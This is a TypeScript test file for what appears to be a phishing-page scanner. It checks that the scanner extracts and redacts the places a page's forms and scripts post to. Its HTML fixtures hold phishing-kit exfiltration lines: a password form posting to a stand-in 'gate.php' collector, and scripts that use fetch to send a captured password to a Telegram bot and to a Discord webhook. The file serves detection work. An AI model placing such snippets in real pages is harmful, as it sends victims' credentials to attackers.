import { NOTHING_KNOWN, OWN_BRANDS } from "@fyr/core/catphish";
import type { ScanCapture } from "@fyr/core/scan";
import { compileRules, OWN_RULES } from "@fyr/core/technologies";
import { describe, expect, it } from "vitest";
import { keptOf } from "./document.ts";
import { withPostsTo } from "./posts-to.ts";

const PAGE = "https://login.example.net/";
const ID = "01990000-0000-7000-8000-000000000000";
const KEY = `7123456789:AA${"q".repeat(33)}`;

const captureOf = (html: string): ScanCapture => ({
  url: PAGE,
  finalUrl: PAGE,
  startedAt: 0,
  endedAt: 1,
  requests: [],
  leadRequest: null,
  frames: [{ frameId: "main", parentFrameId: null, url: PAGE, html, text: "", cut: false }],
  documentFrom: "page",
  secondLook: null,
  cookies: [],
  console: [],
  globals: {},
  globalNames: [],
  screenshot: null,
  favicon: null,
  bodies: new Map(),
  downloads: [],
  heldBack: {},
  dialogs: [],
  endedBy: null,
});

describe("what a page posts to", () => {
  const judging = {
    rules: compileRules(OWN_RULES),
    jarm: null,
    context: { known: NOTHING_KNOWN, pictures: [] },
    brands: OWN_BRANDS,
  };
  const artifactsOf = (html: string) => {
    const capture = captureOf(html);
    return withPostsTo(keptOf(ID, capture, judging).document, capture).Data.Artifacts;
  };

  it("is what its forms post to, among its network artifacts; searches of the own site and mail are none", () => {
    const { PostsTo, Network } = artifactsOf(`
      <form action="http://collect.example:9102/gate.php" method="post"><input type="password" name="p"></form>
      <form action="/send.php" method="post"></form><form action="https://search.example/"><input name="q"></form>
      <form action="/search"><input name="q"></form><form action="mailto:bob@evil.example" method="post"></form>`);
    const urls = ["http://collect.example:9102/gate.php", `${PAGE}send.php`, "https://search.example/"];
    expect(PostsTo).toEqual(urls);
    expect(Network).toEqual(expect.arrayContaining([...urls, "collect.example", "search.example"]));
    expect(Network).not.toContain(`${PAGE}search`);
  });

  it("is what another visitor alone is shown a form for, without its keys", () => {
    const capture = captureOf("<title>Flowers</title><p>Tulips</p>");
    const about = { userAgent: "", url: PAGE, status: 200, title: null, bytes: 1 };
    const postsTo = ["https://drop.example.net/collect.php?k=1"];
    const seen = { ...capture, secondLook: { ...about, postsTo } };
    const { Artifacts, SecondLook } = withPostsTo(keptOf(ID, seen, judging).document, seen).Data;
    expect(SecondLook?.PostsTo).toEqual(["https://drop.example.net/collect.php"]);
    expect(Artifacts.PostsTo).toEqual(["https://drop.example.net/collect.php"]);
    expect(Artifacts.Network).toContain("drop.example.net");
  });

  it("is the bot that a script writes to, without its key, and with its chat", () => {
    const url = `https://api.telegram.org/bot${KEY}/sendMessage?chat_id=-100123&text=`;
    const { PostsTo, Network } = artifactsOf(`<script>fetch("${url}" + pass)</script>
      <script>fetch('https://discord.com/api/webhooks/123456/abcdefghijklmnop', { body })</script>`);
    expect(PostsTo).toEqual([
      "https://api.telegram.org/bot7123…qqqq/sendMessage?chat_id=-100123",
      "https://discord.com/api/webhooks/123456/abcd…mnop",
    ]);
    expect(Network).toEqual(expect.arrayContaining(["api.telegram.org", "discord.com"]));
  });

  it("is the host alone where a script puts the rest together", () => {
    const { PostsTo, Network } = artifactsOf(`<script>fetch("https://api.telegram.org/bot" + key + "/send")</script>
      <script>fetch(\`https://api.telegram.org/bot\${key}/sendMessage\`)</script>`);
    expect(PostsTo).toEqual([]);
    expect(Network).toEqual(["api.telegram.org"]);
  });
});
